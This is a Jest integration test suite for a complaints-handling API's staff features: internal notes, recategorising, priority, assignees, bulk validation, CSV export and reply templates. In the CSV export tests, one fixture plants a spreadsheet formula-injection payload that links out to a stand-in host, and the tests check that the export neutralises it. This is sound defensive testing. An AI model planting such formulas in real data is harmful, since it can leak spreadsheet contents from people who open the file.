import { parse } from 'csv-parse/sync';
import { act, jakiPush, postJaki, waitForTicket } from './support/intake-client';
import { startFreshTestApi, TestApi } from './support/test-api';

const GAMBIR = '31.71.01.1001';
const KEBON_KELAPA = '31.71.01.1002';

type Headers = Record<string, string>;

/**
 * The desk (docs/desk.md): internal notes, recategorising, priority, the staff member handling a
 * ticket, bulk validation and the CSV export — each through the ticket's steps and the access
 * gate. On a database of its own, so that lists and exports hold exactly this suite's tickets.
 */
describe('the desk', () => {
  let api: TestApi;
  let diskominfo: Headers;
  let gambir: Headers;
  let kebonKelapa: Headers;
  let operator: Headers;

  const bearer = async (role: 'unit' | 'diskominfo' | 'operator', unit = 'diskominfo') => ({
    Authorization: `Bearer ${await api.token(role, unit, role === 'operator' ? ['lapor-1708'] : undefined)}`,
  });
  const subOf = (headers: Headers) =>
    JSON.parse(Buffer.from(headers.Authorization.split('.')[1], 'base64url').toString()).sub;
  const read = async (id: string, headers: Headers) => {
    const res = await api.http().get(`/api/v1/complaints/${id}`).set(headers);
    expect(res.status).toBe(200);
    return res;
  };
  const list = async (query: Record<string, string>, headers: Headers) => {
    const res = await api.http().get('/api/v1/complaints').query(query).set(headers);
    expect(res.status).toBe(200);
    return (res.body.data as { id: string }[]).map((t) => t.id);
  };
  /** A JAKI complaint at Gambir, taken up; `followedUp` also waits for validation. */
  const ticketAtGambir = async (description: string, followedUp = false) => {
    const pushed = await postJaki(api, jakiPush({ description }));
    expect(pushed.status).toBe(201);
    const id = String(pushed.body.id);
    await waitForTicket(api, id, (t) => t.status === 'disposisi');
    expect((await act(api, id, 'accept', gambir)).status).toBe(200);
    if (followedUp) {
      const done = await act(api, id, 'follow-ups', gambir, { note: 'Sudah diperbaiki PPSU' });
      expect(done.status).toBe(200);
    }
    return id;
  };

  beforeAll(async () => {
    api = await startFreshTestApi();
    diskominfo = await bearer('diskominfo');
    gambir = await bearer('unit', GAMBIR);
    kebonKelapa = await bearer('unit', KEBON_KELAPA);
    operator = await bearer('operator');
  });
  afterAll(() => api.close());

  describe('internal notes', () => {
    let id: string;
    beforeAll(async () => {
      id = await ticketAtGambir('Trotoar berlubang dekat halte');
    });

    it('are written by Diskominfo and the holding unit and read by staff, with who and when', async () => {
      const byUnit = await act(api, id, 'notes', gambir, { text: 'Menunggu material kerikil' });
      expect(byUnit.status).toBe(200);
      expect(byUnit.headers.etag).toBe(`W/"${byUnit.body.version}"`);
      expect(
        (await act(api, id, 'notes', diskominfo, { text: 'Warga menelepon lagi' })).status,
      ).toBe(200);
      const { body } = await read(id, diskominfo);
      expect(body.notes).toEqual([
        expect.objectContaining({ text: 'Menunggu material kerikil', unit: GAMBIR, role: 'unit' }),
        expect.objectContaining({ text: 'Warga menelepon lagi', role: 'diskominfo' }),
      ]);
      // A note does not move the ticket.
      expect(body.status).toBe('proses');
      expect(body.history.filter((e: { type: string }) => e.type === 'note')).toHaveLength(2);
    });

    it('stay internal: no note on the public tracking page, in the reporter’s notices or to another unit', async () => {
      const detail = (await read(id, diskominfo)).body;
      const tracked = await api.http().get(`/api/v1/complaints/track/${detail.trackingNumber}`);
      expect(tracked.status).toBe(200);
      expect(JSON.stringify(tracked.body)).not.toContain('kerikil');
      const notices = await api.http().get(`/api/v1/complaints/${id}/notices`).set(diskominfo);
      expect(notices.status).toBe(200);
      expect(JSON.stringify(notices.body)).not.toContain('kerikil');
      const other = await act(api, id, 'notes', kebonKelapa, { text: 'Bukan wilayah kami' });
      expect(other.status).toBe(404);
    });

    it('are written by a unit that held the ticket before, and searched by staff only', async () => {
      const sent = await act(api, id, 'dispositions', gambir, {
        toUnit: 'dsda',
        reason: 'wrong-function',
      });
      expect(sent.status).toBe(200);
      const later = await act(api, id, 'notes', gambir, { text: 'Koordinasi dengan Sudin SDA' });
      expect(later.status).toBe(200);
      expect(await list({ q: 'kerikil' }, diskominfo)).toEqual([id]);
      expect(await list({ q: 'kerikil' }, gambir)).toEqual([id]);
    });

    it('are refused to an operator, with an empty or too long text, and on an unknown ticket', async () => {
      expect((await act(api, id, 'notes', operator, { text: 'Catatan' })).status).toBe(403);
      const empty = await act(api, id, 'notes', diskominfo, { text: '' });
      expect(empty.status).toBe(400);
      expect(empty.body.code).toBe('VALIDATION_FAILED');
      const long = await act(api, id, 'notes', diskominfo, { text: 'x'.repeat(4001) });
      expect(long.status).toBe(400);
      const unknown = await act(api, '00000000-0000-4000-8000-000000000000', 'notes', diskominfo, {
        text: 'Catatan',
      });
      expect(unknown.status).toBe(404);
    });
  });

  it('hides notes from the operator who entered the ticket, in its detail, history and search', async () => {
    const entered = await api
      .http()
      .post('/api/v1/complaints')
      .set(operator)
      .send({
        channel: 'lapor-1708',
        reporter: { name: 'Dewi' },
        description: 'Bantuan pangan belum diterima',
      });
    expect(entered.status).toBe(201);
    const id = String(entered.body.id);
    expect((await act(api, id, 'notes', diskominfo, { text: 'Cek data penerima' })).status).toBe(
      200,
    );
    const detail = (await read(id, operator)).body;
    expect(detail.notes).toEqual([]);
    expect(detail.history.map((e: { type: string }) => e.type)).not.toContain('note');
    const history = await api.http().get(`/api/v1/complaints/${id}/history`).set(operator);
    expect(history.body.map((e: { type: string }) => e.type)).not.toContain('note');
    expect(await list({ q: 'penerima' }, operator)).toEqual([]);
    expect(await list({ q: 'penerima' }, diskominfo)).toEqual([id]);
  });

  describe('recategorising', () => {
    it('files the ticket under another category and suggests its owner; the holder is warned', async () => {
      const id = await ticketAtGambir('Pipa air bocor di gang');
      const res = await act(api, id, 'category', diskominfo, {
        category: 'air-bersih-sanitasi',
        reason: 'Soal air bersih, bukan lainnya',
      });
      expect(res.status).toBe(200);
      expect(res.body.category.code).toBe('air-bersih-sanitasi');
      expect(res.body.suggestedUnit.code).toBe('dsda');
      expect(res.body.assignedUnit.code).toBe(GAMBIR);
      expect(res.body.warnings).toEqual([expect.stringContaining('dsda')]);
      const event = res.body.history.at(-1);
      expect(event).toMatchObject({
        type: 'recategorised',
        reason: 'Soal air bersih, bukan lainnya',
        data: { fromCategory: 'lainnya', toCategory: 'air-bersih-sanitasi', suggestedUnit: 'dsda' },
      });
      const again = await act(api, id, 'category', diskominfo, {
        category: 'air-bersih-sanitasi',
        reason: 'Sekali lagi',
      });
      expect(again.status).toBe(409);
      expect(again.body.code).toBe('SAME_CATEGORY');
    });

    it('refuses an unknown category, a unit, and a stale If-Match', async () => {
      const id = await ticketAtGambir('Jalan rusak');
      const unknown = await act(api, id, 'category', diskominfo, {
        category: 'tidak-ada',
        reason: 'Coba',
      });
      expect(unknown.status).toBe(400);
      expect(unknown.body.details[0].field).toBe('category');
      const byUnit = await act(api, id, 'category', gambir, {
        category: 'perumahan',
        reason: 'Coba',
      });
      expect(byUnit.status).toBe(403);
      const stale = await api
        .http()
        .post(`/api/v1/complaints/${id}/category`)
        .set(diskominfo)
        .set('If-Match', 'W/"1"')
        .send({ category: 'perumahan', reason: 'Soal rumah' });
      expect(stale.status).toBe(409);
      expect(stale.body.code).toBe('VERSION_CONFLICT');
    });
  });

  describe('priority and the staff member handling it', () => {
    let first: string;
    let urgent: string;
    beforeAll(async () => {
      first = await ticketAtGambir('Sampah menumpuk di pasar');
      urgent = await ticketAtGambir('Pohon tumbang menutup jalan');
    });

    it('puts the urgent first in a queue sorted by priority, and filters by it', async () => {
      const set = await act(api, urgent, 'priority', diskominfo, { priority: 'darurat' });
      expect(set.status).toBe(200);
      expect(set.body.priority).toBe('darurat');
      expect(set.body.history.at(-1)).toMatchObject({
        type: 'prioritised',
        data: { from: 'biasa', to: 'darurat' },
      });
      const queue = await list({ sort: 'priority', status: 'proses' }, gambir);
      expect(queue[0]).toBe(urgent);
      expect(queue).toContain(first);
      expect(await list({ priority: 'darurat' }, gambir)).toEqual([urgent]);
      // Newest first stays the default order.
      const newest = await list({ status: 'proses' }, gambir);
      expect(newest.indexOf(urgent)).toBeLessThan(newest.indexOf(first));
    });

    it('is Diskominfo’s to set, from the three levels, on open tickets', async () => {
      expect((await act(api, first, 'priority', gambir, { priority: 'tinggi' })).status).toBe(403);
      const wrong = await act(api, first, 'priority', diskominfo, { priority: 'segera' });
      expect(wrong.status).toBe(400);
      expect(wrong.body.message).toContain('biasa, tinggi, darurat');
      const bad = await api.http().get('/api/v1/complaints?priority=segera').set(gambir);
      expect(bad.status).toBe(400);
    });

    it('names a staff member of the holding unit, found by assignee=me; a re-route clears it', async () => {
      const me = subOf(gambir);
      const named = await act(api, first, 'assignee', gambir, { sub: me, name: 'Rina (PPSU)' });
      expect(named.status).toBe(200);
      expect(named.body.assignee).toEqual({ sub: me, name: 'Rina (PPSU)' });
      expect(await list({ assignee: 'me' }, gambir)).toEqual([first]);
      expect(await list({ assignee: 'none', status: 'proses' }, gambir)).not.toContain(first);
      // Only the unit that holds it names its staff.
      expect((await act(api, first, 'assignee', diskominfo, { sub: 'x', name: 'X' })).status).toBe(
        403,
      );
      const missingName = await act(api, first, 'assignee', gambir, { sub: me });
      expect(missingName.status).toBe(400);
      const sent = await act(api, first, 'dispositions', gambir, {
        toUnit: KEBON_KELAPA,
        reason: 'wrong-area',
      });
      expect(sent.status).toBe(200);
      expect(sent.body.assignee).toBeNull();
      expect(await list({ assignee: 'me' }, gambir)).toEqual([]);
    });

    it('can be cleared by the unit (sub: null)', async () => {
      expect(
        (await act(api, urgent, 'assignee', gambir, { sub: subOf(gambir), name: 'Rina' })).status,
      ).toBe(200);
      const cleared = await act(api, urgent, 'assignee', gambir, { sub: null });
      expect(cleared.status).toBe(200);
      expect(cleared.body.assignee).toBeNull();
    });
  });

  describe('bulk validation', () => {
    it('validates each item as a single validation would, one result per item, in order', async () => {
      const a = await ticketAtGambir('Got mampet di RT 01', true);
      const b = await ticketAtGambir('Got mampet di RT 02', true);
      const c = await ticketAtGambir('Got mampet di RT 03', true);
      const notWaiting = await ticketAtGambir('Got mampet di RT 04');
      const version = async (id: string) => (await read(id, diskominfo)).body.version as number;
      const res = await api
        .http()
        .post('/api/v1/validations')
        .set(diskominfo)
        .send({
          items: [
            { id: a, ifMatch: `W/"${await version(a)}"`, decision: 'approve' },
            { id: b, ifMatch: `W/"${await version(b)}"`, decision: 'reject', note: 'Foto kurang' },
            { id: c, ifMatch: 'W/"1"', decision: 'approve' },
            { id: notWaiting, ifMatch: `W/"${await version(notWaiting)}"`, decision: 'approve' },
            { id: '00000000-0000-4000-8000-000000000000', ifMatch: 'W/"1"', decision: 'approve' },
            { id: c, ifMatch: '*', decision: 'approve' },
          ],
        });
      expect(res.status).toBe(200);
      expect(res.body.results.map((r: { statusCode: number }) => r.statusCode)).toEqual([
        200, 200, 409, 409, 404, 400,
      ]);
      expect(res.body.results[0]).toMatchObject({ id: a, status: 'selesai' });
      expect(res.body.results[1]).toMatchObject({ id: b, status: 'tl_ditolak' });
      expect(res.body.results[2].error.code).toBe('VERSION_CONFLICT');
      expect(res.body.results[3].error.code).toBe('INVALID_TRANSITION');
      expect(res.body.results[4].error.code).toBe('COMPLAINT_NOT_FOUND');
      expect(res.body).toMatchObject({ done: 2, refused: 4 });
      // The refused one is untouched; each done one is versioned as a single validation.
      expect((await read(c, diskominfo)).body.status).toBe('menunggu_validasi');
      expect((await read(a, diskominfo)).body.version).toBe(res.body.results[0].version);
      // A closed ticket takes no desk step but a note.
      const closed = await act(api, a, 'priority', diskominfo, { priority: 'tinggi' });
      expect(closed.status).toBe(409);
      expect(closed.body.code).toBe('INVALID_TRANSITION');
      expect((await act(api, a, 'notes', diskominfo, { text: 'Ditutup rapi' })).status).toBe(200);
    });

    it('is Diskominfo’s, and refuses a malformed batch whole', async () => {
      const item = {
        id: '00000000-0000-4000-8000-000000000000',
        ifMatch: 'W/"1"',
        decision: 'approve',
      };
      const byUnit = await api
        .http()
        .post('/api/v1/validations')
        .set(gambir)
        .send({ items: [item] });
      expect(byUnit.status).toBe(403);
      const empty = await api
        .http()
        .post('/api/v1/validations')
        .set(diskominfo)
        .send({ items: [] });
      expect(empty.status).toBe(400);
      const tooMany = await api
        .http()
        .post('/api/v1/validations')
        .set(diskominfo)
        .send({ items: Array.from({ length: 101 }, () => item) });
      expect(tooMany.status).toBe(400);
      const noNote = await api
        .http()
        .post('/api/v1/validations')
        .set(diskominfo)
        .send({ items: [{ ...item, decision: 'reject' }] });
      expect(noNote.status).toBe(400);
      expect(noNote.body.details[0].field).toBe('items.0.note');
    });
  });

  describe('the CSV export', () => {
    let formula: string;
    beforeAll(async () => {
      const pushed = await postJaki(
        api,
        jakiPush({
          description: '=HYPERLINK("http://contoh.invalid/?"&A1,"klik") hubungi 081234567890',
          reporter: { name: 'Siti Rahmawati', phone: '081234567890', email: 'siti@example.com' },
        }),
      );
      formula = String(pushed.body.trackingNumber);
      await waitForTicket(api, String(pushed.body.id), (t) => t.status === 'disposisi');
    });

    const exported = async (query: Record<string, string>, headers: Headers) => {
      const res = await api
        .http()
        .get('/api/v1/complaints.csv')
        .query(query)
        .set(headers)
        .buffer(true)
        .parse((stream, done) => {
          let text = '';
          stream.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
          stream.on('end', () => done(null, text));
        });
      return res;
    };

    it('exports the caller’s list with its filters, without personal data, formulas neutralised', async () => {
      const res = await exported({}, diskominfo);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="pengaduan-/);
      const text = res.body as string;
      expect(text.startsWith('\uFEFF')).toBe(true);
      const rows: Record<string, string>[] = parse(text.slice(1), { columns: true });
      const total = (await api.http().get('/api/v1/complaints').set(diskominfo)).body.meta.total;
      expect(rows).toHaveLength(total);
      const row = rows.find((r) => r.trackingNumber === formula)!;
      expect(row.description.startsWith(`'=HYPERLINK(`)).toBe(true);
      expect(row.description).toContain('0812*****890');
      expect(row).toMatchObject({ status: 'disposisi', assignedUnit: GAMBIR, priority: 'biasa' });
      expect(text).not.toContain('Siti');
      expect(text).not.toContain('081234567890');
      expect(text).not.toContain('siti@example.com');
      // No cell starts with what a spreadsheet would run.
      for (const r of rows) {
        for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
      const filtered: Record<string, string>[] = parse(
        ((await exported({ status: 'selesai' }, diskominfo)).body as string).slice(1),
        { columns: true },
      );
      expect(filtered.length).toBeGreaterThan(0);
      expect(filtered.every((r) => r.status === 'selesai')).toBe(true);
    });

    it('holds only what the caller may list, and is refused to an operator or a wrong filter', async () => {
      const other: Record<string, string>[] = parse(
        ((await exported({}, kebonKelapa)).body as string).slice(1),
        { columns: true },
      );
      const listed = (await api.http().get('/api/v1/complaints').set(kebonKelapa)).body.data.map(
        (t: { trackingNumber: string }) => t.trackingNumber,
      );
      expect(other.map((r) => r.trackingNumber).sort()).toEqual([...listed].sort());
      expect(other.map((r) => r.trackingNumber)).not.toContain(formula);
      expect((await exported({}, operator)).status).toBe(403);
      const bad = await api.http().get('/api/v1/complaints.csv?status=nope').set(diskominfo);
      expect(bad.status).toBe(400);
      expect(bad.body.code).toBe('VALIDATION_FAILED');
    });
  });

  describe('response templates', () => {
    it('are written by an admin per category and stage, and read by staff with the general ones', async () => {
      const admin = { Authorization: `Bearer ${await api.token('admin')}` };
      const create = (body: object) =>
        api.http().post('/api/v1/response-templates').set(admin).send(body);
      const specific = await create({
        category: 'air-bersih-sanitasi',
        stage: 'follow-up',
        title: 'Saluran dibersihkan',
        text: 'Saluran telah dibersihkan bersama PPSU pada hari ini.',
      });
      expect(specific.status).toBe(201);
      expect(specific.body).toMatchObject({ category: 'air-bersih-sanitasi', active: true });
      const general = await create({
        stage: 'rejection',
        title: 'Bukan pengaduan',
        text: 'Laporan ini bukan pengaduan layanan publik.',
      });
      expect(general.status).toBe(201);
      const other = await create({
        category: 'perumahan',
        stage: 'follow-up',
        title: 'Rumah diperiksa',
        text: 'Petugas telah memeriksa rumah.',
      });
      expect(other.status).toBe(201);

      const read = async (query: Record<string, string>, headers: Headers) => {
        const res = await api.http().get('/api/v1/response-templates').query(query).set(headers);
        expect(res.status).toBe(200);
        return (res.body.data as { title: string }[]).map((t) => t.title);
      };
      expect(await read({ category: 'air-bersih-sanitasi' }, gambir)).toEqual([
        'Saluran dibersihkan',
        'Bukan pengaduan',
      ]);
      expect(await read({ category: 'air-bersih-sanitasi', stage: 'follow-up' }, operator)).toEqual(
        ['Saluran dibersihkan'],
      );

      const off = await api
        .http()
        .patch(`/api/v1/response-templates/${other.body.id}`)
        .set(admin)
        .send({ active: false, text: 'Petugas kelurahan telah memeriksa rumah.' });
      expect(off.status).toBe(200);
      expect(off.body).toMatchObject({
        active: false,
        text: 'Petugas kelurahan telah memeriksa rumah.',
      });
      expect(await read({ category: 'perumahan' }, diskominfo)).toEqual(['Bukan pengaduan']);
      expect(await read({ category: 'perumahan', includeInactive: 'true' }, admin)).toContain(
        'Rumah diperiksa',
      );
      const audit = await api
        .http()
        .get('/api/v1/audit')
        .query({ entity: 'reply-template', id: String(other.body.id) })
        .set(admin);
      expect(audit.body.data.map((e: { action: string }) => e.action)).toEqual([
        'update',
        'create',
      ]);
    });

    it('refuse a wrong stage, an unknown category, a non-admin writer and an unknown id', async () => {
      const admin = { Authorization: `Bearer ${await api.token('admin')}` };
      const post = (headers: Headers, body: object) =>
        api.http().post('/api/v1/response-templates').set(headers).send(body);
      const base = { stage: 'reply', title: 'Terima kasih', text: 'Terima kasih atas laporannya.' };
      expect((await post(admin, { ...base, stage: 'later' })).status).toBe(400);
      const unknown = await post(admin, { ...base, category: 'tidak-ada' });
      expect(unknown.status).toBe(400);
      expect(unknown.body.details[0].field).toBe('category');
      expect((await post(diskominfo, base)).status).toBe(403);
      const missing = await api
        .http()
        .patch('/api/v1/response-templates/00000000-0000-4000-8000-000000000000')
        .set(admin)
        .send({ active: false });
      expect(missing.status).toBe(404);
      expect(missing.body.code).toBe('TEMPLATE_NOT_FOUND');
    });
  });
});
